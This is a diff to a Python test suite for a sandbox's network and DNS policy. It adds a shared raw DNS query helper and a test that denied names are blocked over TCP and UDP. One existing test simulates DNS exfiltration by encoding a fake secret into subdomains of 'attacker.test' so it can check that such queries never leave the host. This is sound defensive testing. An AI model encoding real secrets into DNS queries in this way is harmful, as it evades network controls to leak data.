@@ -9,7 +9,26 @@ import subprocess
 
 import testnet
 from harness import case, equal, fail, true, wait_until, write
-from netprobe import detached, inside, log_of, python
+from netprobe import PROBE, detached, inside, log_of, python
+
+# A question to the sandbox's name server: the answer's code, and how many records it has.
+ASK = r'''
+import random, struct
+def ask(name, kind, over=socket.SOCK_DGRAM):
+    question = b"".join(bytes([len(one)]) + one.encode() for one in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
+    message = struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0) + question
+    with socket.socket(socket.AF_INET, over) as one:
+        one.settimeout(20)
+        one.connect(("198.18.0.1", 53))
+        if over == socket.SOCK_STREAM:
+            one.sendall(struct.pack(">H", len(message)) + message)
+            size = struct.unpack(">H", one.recv(2, socket.MSG_WAITALL))[0]
+            answer = one.recv(size, socket.MSG_WAITALL)
+        else:
+            one.send(message)
+            answer = one.recv(4096)
+    return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
+'''
 
 
 @case(image="base", network=True)
@@ -59,22 +78,7 @@ def a_refused_name_never_leaves_the_host(host):
     """N2: nothing of what a guest asks for arrives at the host's name server, whatever the name or the record's type says."""
     net = host.network
     net.names["example.com"] = [testnet.PUBLIC]
-    script = r'''
-import random, struct
-def ask(name, kind, over=socket.SOCK_DGRAM):
-    question = b"".join(bytes([len(one)]) + one.encode() for one in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
-    message = struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0) + question
-    with socket.socket(socket.AF_INET, over) as one:
-        one.settimeout(20)
-        one.connect(("198.18.0.1", 53))
-        if over == socket.SOCK_STREAM:
-            one.sendall(struct.pack(">H", len(message)) + message)
-            size = struct.unpack(">H", one.recv(2, socket.MSG_WAITALL))[0]
-            answer = one.recv(size, socket.MSG_WAITALL)
-        else:
-            one.send(message)
-            answer = one.recv(4096)
-    return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
+    script = '''
 secret = "s3cr3t" * 9
 print([ask(f"{secret}.attacker.test", kind) for kind in (1, 28, 16, 15, 33, 65, 255)],
       ask(f"{secret}.attacker.test", 1, socket.SOCK_STREAM), ask("9.9.9.9.in-addr.arpa", 12), ask(f"{secret}.example.com", 1),
@@ -82,10 +86,67 @@ print([ask(f"{secret}.attacker.test", kind) for kind in (1, 28, 16, 15, 33, 65, 
 '''
     name = detached(host, "dns", "--allow", "example.com")
     nothing = "(3, 0)"
-    inside(host, name, script).expect(
+    inside(host, name, ASK + script).expect(
         out=f"[{', '.join([nothing] * 7)}] {nothing} {nothing} {nothing} (0, 1) (0, 0) (0, 0)\n")
     # The control: a record that a rule allows is asked for, and seen by the recorder.
     equal(net.queries, [("example.com", 16)], "queries at the host's name server")
+    host.caisson("rm", "-f", name).expect()
+
+
+@case(image="base", network=True)
+def a_denied_name_is_denied_whole(host):
+    """N26: over TCP and UDP, whatever the record's type, with everything else open; and where requests are judged QUIC does not pass."""
+    net = host.network
+    net.names.update({"bad.example": [testnet.PUBLIC], "ports.example": [testnet.PUBLIC], "judged.example": [testnet.PUBLIC]})
+    port = net.serve_text("hello")
+    udp, datagrams = net.serve_datagrams(lambda data: b"udp " + data)
+    script = f'''
+UDP = socket.SOCK_DGRAM
+print([probe("bad.example", one, kind, b"bad") for one, kind in (({port}, socket.SOCK_STREAM), ({udp}, UDP))],
+      probe("{testnet.PUBLIC_2}", {port}),
+      probe("ports.example", {udp}, UDP, b"denied"), probe("ports.example", {port}),
+      probe("judged.example", {udp}, UDP, b"unread"))
+print([ask("bad.example", kind) for kind in (1, 28, 16, 15, 33, 64, 65, 255)], ask("_sip._udp.bad.example", 33),
+      ask("bad.example", 16, socket.SOCK_STREAM), ask("ports.example", 1), ask("ports.example", 16))
+'''
+    name = detached(host, "open", "--net", "open", "--deny", "bad.example", "--deny", testnet.PUBLIC_2, "--deny", f"ports.example:{udp}",
+                    "--allow", f"judged.example:{udp} GET /x")
+    nothing = "(3, 0)"
+    inside(host, name, ASK + script).expect(
+        out="['EAI_NONAME', 'EAI_NONAME'] ECONNREFUSED ECONNREFUSED hello ECONNREFUSED\n"
+            f"[{', '.join([nothing] * 8)}] {nothing} {nothing} (0, 1) (0, 0)\n")
+    equal(datagrams, [], "datagrams that arrived")
+    # The control, of a name with ports left: its record, and its addresses for the connection.
+    equal({one for one in net.queries if one[0] != "ports.example"}, set(), "queries about other names")
+    true(("ports.example", 16) in net.queries, net.queries)
+    # A flow that is open ends with the rule, and its address leads nowhere any more.
+    script = f'''
+one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+one.settimeout(60)
+one.connect((socket.gethostbyname("late.example"), {udp}))
+one.send(b"1")
+print(one.recv(100), flush=True)
+sys.stdin.readline()
+one.settimeout(1)
+answer = None
+while not answer:
+    try:
+        one.send(b"2")
+        answer = one.recv(100)
+    except TimeoutError:  # lost, in the flow that ends
+        pass
+    except ConnectionRefusedError:
+        answer = "refused"
+print(answer)
+'''
+    net.names["late.example"] = [testnet.PUBLIC]
+    late = host.start("exec", "-i", name, "--", "python3", "-c", PROBE + script)
+    equal(late.stdout.readline(), b"b'udp 1'\n", "the answer before it was denied")
+    host.caisson("policy", "deny", name, "late.example").expect()
+    late.stdin.write(b"\n")
+    late.stdin.flush()
+    equal(late.stdout.readline(), b"refused\n", "the answer when it was denied")
+    equal(datagrams, [b"1"], "datagrams that arrived")
     host.caisson("rm", "-f", name).expect()
 
 
